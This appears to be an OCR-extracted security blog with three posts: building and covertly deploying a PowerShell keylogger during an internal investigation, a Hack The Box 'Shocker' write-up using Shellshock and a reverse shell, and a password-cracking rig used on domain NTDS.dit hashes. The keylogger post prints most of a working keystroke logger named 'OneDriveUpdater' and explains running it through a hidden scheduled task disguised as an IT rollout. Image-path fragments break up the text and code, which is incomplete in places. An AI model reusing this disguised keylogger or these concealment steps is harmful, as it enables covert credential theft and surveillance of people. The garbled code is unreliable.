Practical Application of Keylogger for IR


As part of a recent internal investigation, we identified a need for a keylogger to grab some creds off a corporate laptop. After getting the necessary approvals lined up and documented, I started looking into how we might potentially do this.

This isn’t a standard pentest/offensivesec engagement where we needed to gain access first, since we already had local admin as part of standard sysadmin access. So we jumped straight into “exploit development”. Did a quick Google of keyloggers and found the usual candidates. Powershell would work for us in this scenario since we controlled antivirus and script execution settings, so we proceeded down this path.

Googlefu yielded several candidates, and I’ll talk through the rationale / evolution of what happened for us with thefour Powershell keyloggers we used: simple keylogger, Powersploit, Nishang, and Shima’s.

Possible Solutions

“simple keylogger” :

I initially found this keylogger as the fourth hit on Google. After quickly reviewing the code and getting familiar, this seemed like it would work for us. I particularly liked the fact this had 1) documented coded (yay) and 2) had good hooks for debugging (console writes, opening file at the end). Gave a good structure to quickly iterate through.

I’ll speak later about our deployment, but the main challenge with this script was the fidelity of results that it returned. In our test deployment, we observed that keypresses were being dropped and it generally gave inconsistentresults. It improved as the Start-Sleep -Milliseconds 40 timer was reduced, but Powershell CPU usage went way up (at value=1, CPU util=25%). That’d be super noticable (cue fan noise) and the accuracy of keystroke capture still wasn’t high enough. So we dropped this and started looking for alternative measures.

So that took me to Powersploit’s Get-Keystrokes. I’ve used other Powersploit modules, but never this one so figured I’d give it a shot and it’d be a slam dunk. Did some quick modifications to suit our environment. But when executed, output was just the header “TypedKey”,”WindowTitle”,”Time” but no keys captured. I’m no Powershell expert, so after ~10 minutes of fiddling, decided I’d see if there were other options and return to this if I couldn’t find another alternative.

Alright well if Powersploit isn’t going to work, let’s check out the nishang option. The persistence features and web based upload are pretty cool for pentest engagements, but not necessarily needed for this endeavor. Making the modifications to bring storage back internal seemed to be more intense, so after about 5 minutes on looking at this, went back to Google for something closer to endstate (because I’m lazy).

So then stumbled upon Shima’s keylogger. This was succinct enough that it would do the trick! Testing this quickly showed promise, but the output file listed each character on its own line. Since English is left to right readstyle, and I really didn’t want to write another script to post-process this file, I looked atoptions of fixing this. Output was based on

 Out-File -FilePath $logfile -Encoding Unicode -Append -InputObject $mychar.ToString()

and there’s a great argument -NoNewline that looked promising from Whipped that together and deployed on the test box, but quickly was back to the drawing board because this argument is a Powershell 5.0 feature, and the target was still on 2.0.

So to get around this, I figured let’s just build a string buffer with the inputs and write whenever we get an enter. A bit hacky, but should work fine andwriting the buffer upon carriage return to the output file will suit our needs. Not being a Powershell guru, took some time to finally identify how to flag a carriage return with the converted keystate, but after consulting an Ascii table (like and testing 10 (line feed) and 13 (carriage return), we had a winner. So final code looked like this

function OneDriveUpdater {
$logfile = "$env:temp\key.log"
$virtualkc_sig = @'
[DllImport("user32.dll", CharSet=CharSet.Auto, ExactSpelling=true)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
$kbstate_sig = @'
[DllImport("user32.dll", CharSet=CharSet.Auto)]
public static extern int GetKeyboardState(byte[] keystate);
$mapchar_sig = @'
[DllImport("user32.dll", CharSet=CharSet.Auto)]
public static extern int MapVirtualKey(uint uCode, int uMapType);
$tounicode_sig = @'[DllImport("user32.dll", CharSet=CharSet.Auto)]
public static extern intToUnicode(uint wVirtKey, uint wScanCode, byte[] lpkeystate, System.Text.StringBuilder pwszBuff, int cchBuff, uint wFlags);
$getKState = Add-Type -MemberDefinition $virtualkc_sig -name "Win32GetState" -namespace Win32Functions -passThru
$getKBState = Add-Type -MemberDefinition $kbstate_sig -name "Win32MyGetKeyboardState" -namespace Win32Functions -passThru
$getKey = Add-Type -MemberDefinition$mapchar_sig -name "Win32MyMapVirtualKey" -namespace Win32Functions -passThru
$getUnicode = Add-Type -MemberDefinition $tounicode_sig -name "Win32MyToUnicode"-namespace Win32Functions -passThru
$bufferString = ""
while ($true) {
Start-Sleep -Milliseconds 40
$validator = ""

for ($char = 1; $char -le 254; $char++) {
$vkey = $char
$validator = $getKState::GetAsyncKeyState($vkey)

if ($validator -eq -32767) {

$l_shift = $getKState::GetAsyncKeyState(160)
$r_shift = $getKState::GetAsyncKeyState(161)
$caps_lock = [console]::CapsLock

$scancode = $getKey::MapVirtualKey($vkey, $MAPVK_VSC_TO_VK_EX)$kbstate = New-Object Byte[] 256
$checkkbstate = $getKBState::GetKeyboardState($kbstate)

$mychar = New-Object -TypeName "System.Text.StringBuilder";
$unicode_res = $getUnicode::ToUnicode($vkey, $scancode, $kbstate, $mychar, $mychar.Capacity, 0)

if ($unicode_res -gt 0) {
if ($mychar.ToString() -eq "`r") {
#debugging write output in case of error
Out-File -FilePath $logfile -Encoding Unicode-Append -InputObject $bufferString.ToString()
$bufferString = ""
else {$bufferString = $bufferString + $mychar}



For the deployment mechanism, we decided upon a scheduled task because we could connect to the endpoint remotely and we had local admin. So just pop open Scheduled Tasks, connect to endpoint remotely:

Create a task, and this is important, make sure to run it as the user. The script has to be run in the user’s context,otherwise you’ll get nothing.


Then another thing to note is the Action, we’llkick powershell.exe but adding the flag -WindowStyle Hidden, which will result in a quick flicker of a powershell window but will quickly disappear. So either kick it off when the user isn’t around (afterhours) or makeit a plausible looking script. We hijacked a current IT rollout to masquerade the script so it didn’t arouse too much suspicion.

The rest of the options are up to you: triggers, job ending/repeating, etc. We went with time kickoff in this particular example.

One final note is that we went with a network share location to store the files, a local filer that did the trick. Helps avoid the storage issue if the files get too large, and one less connection into the target’s box.


So that’s about a wrap. Was a useful exercise for us, got me more familiar with keylogger options on the cheap, since we don’t own a product that would do this for us.  And I wasn’t really in the mood to download a <insert nation-state here> backdoored keylogger. Anyway, hope this helped. Enjoy

Shocker – Hack The Box writeup

Been a while since I did a blog post, but figured I’d jump on the bandwagon of HackThe Box writeups for retired boxes. Got the message that Valentine was being released on 2018-02-17 and retiring Shocker, which was a nice little box that I hadmanaged to own user and system. So I thought I’d writeup my approach and observations.

Run through a quick nmap, see what we’re working with. Since it’s an easy box, common ports should trigger something:

Ok, HTTP and SSH. Haven’t seen an SSH bruteforce attack vector be meaningful, so let’s look at the HTTP service:

Alright, cute jpeg. No other links. Let’s start brute force browsing. Whipping out dirb in this instance (it is what they teach you in OSCP).

Yaknow, dirb isn’t the fastest. Which made me look for something else a bit more powerful than the “easy mode” dirb. (And just forget dirbuster, too flakey for me). Enter wfuzz. Switched over to this and watched the results fly by.

Hmm ok, no dice with a default wordlist with default settings. Not so easy peasey. So, let’s look at what we have: Apache webserver with URI of /cgi-bin/ , box name of Shocker, could this be Shellshock? Take a look through if you aren’t familiar, a good classic vuln, even on OWASP hitlist. So if the tool defaults didn’t work, let’s try refining our tools.

So we’re looking for CGI scripts. Referenced this site to remember how CGI worked. So looking for scripts with particular file extensions, could be .cgi or.pl. So ok, fire up the ol’ wfuzz again, let’s see.

Well crap, we continue to look. Google-fu deployed, and stumbled upon this site regarding bash scripts being able to be used. So let’s try .sh filetype:

Ah hah!, that’ll work. So time to fire up the exploit. I used Burpsuite Repeater for this, a bit easier than working CLIsince I’m old and legally blind, GUI helps the ol’ eyes. Prepped this with a reverse bash shell payload ala Pentest Monkey’s cheatsheet.

Alright! We got user, onward and upwards. So let’s upload the standard Linux enumeration script via wget and a python SimpleHTTPServer. Running this, we see this snippet of interesting-ness:

So the line of attack is to get a perl script to read the contents of the flag file and just sudo it. Easy enough to whip up:

And that’s a wrap. Fun little box, enumeration is key. Thanks @hackthebox_eu and @mrb3n813!


Practical Application of a Password Cracking Rig

Due to a string of events in a recent forensics investigation, our InfoSec department had ourselves an abandoned graphics design desktop with an NVIDIA Quadro K5000. With this windfall, I decided this was a good time to try out something I saw from the folks at shellntel, but with only 1 GPU instead of 8. Gotta startsomewhere.

Following their article, I learned a couple of things that I thought I’d share.

OS install

I would have gone whole disk encryption rather than encrypt partition like shelIntel did. While this may give you some flexibility, mounting an ecryptfs partition every time is a bit annoying (more on this below).

Lots of articles on how to do this with your homedir, but not a lot on manual. Basically take your mount point (in my case, I used /opt) and mount it as ecryptfs. Note that you must answer the questions exactly as you set it up for thisto work. I chose to encrypt filenames and forgot it’s not the default and panicked when it didn’t work on the first go.

Once initialized, move all your files in. I put hashview and hashcat both in /opt since both contain files that, if exposed, I’d find rather unfortunate.

Pros: you don’t have to be local to keyboard to boot like you do with LVM encryption. I ended up setting up a Grub password (in case the desktop grows legs), so have to be local anyway. Cons: you have to remember to mount post boot, and remember what your settings were exactly (see the options above). Mess that up and no dice.And other hardening steps: Configure SSH (no root login, SSH keys, switch to nonstandard port), adjust sudoers to not require password (lazy), fail2ban (adjust for the port change), Grub password, unattended-upgrades, purge-old-kernels.


Wasn’t very intuitive. We have a Kali VM that we’d been using previously for cracking with John, so needed to translate this.


So 53114.6k hashcat vs. 734.153k JtR, looking at almost 7250% improvement. Also frees up our Kali / VM environment if we need to crack something. I’ll take it for $free.99.


From the time I initially built this to the end of April, the guys over at Hashview released an update which provided a couple of things: NTLMv2 hash support and daemonized processrunning. Had to do some fanciness with screen to background the running ruby process, but now it’s got a ruby foreman process manager.

My only gotcha on this one is that make sure you specify the hashcat binary path that includes the actual binary. This wasn’t super clear, and took some error log analysis to figure out that hashview was missing the binary. Doh!

NTDS.dit Cracking

So with a new shiny rig, what do you throw at it? Well of course, what juicier example than your domain’s hashes! This took some effort as there’s a lot of older posts that made this more challenging than it should have been.

With domain admin creds, I used the shadow volume process of grabbing the NTDS.dit file and SYSTEM hive (make sure you get both from the same domain controller). Threw this over to our Kali box to stage (handle with care).

Alright, now to pull out some hashes. I followed Didier Stevens’ article to extract, and quickly did the first steps with esedbexport. But the extraction using ntdsxtract ran for 3 days with minimal progress. Being impatient, I started researching and found the guys over at Sword and Shield  with a similar challenge (I, too, was a sad panda) and theirsolution of impacket’s Sure enough, within minutes we’ve got hashes!

One word of warning here, make sure you understand that the hashes pulled via are username:hash, which means you’ll shortly find actual people’s passwords. Now this means you’ve got some sensitive info on your hands and your boss may be surprised to find that you now know some important people’s passwords. Having the userid makes for good analysis (services accounts with terrible passwords, analytics on distribution of terrible base words across the org, etc.) but means you gotta secure the heck out of this and you have trusted resources working with the data.

Let’s Get Cracking

Throwing this into Hashview is pretty simple. The complexity comes in the Tasks that you setup. Being an initiate tothe world of hashcat, I was unaware of hashcat config and masks.  In hindsight, after Google-fu and guessing, I found Hash Crack primer would have helped immensely.

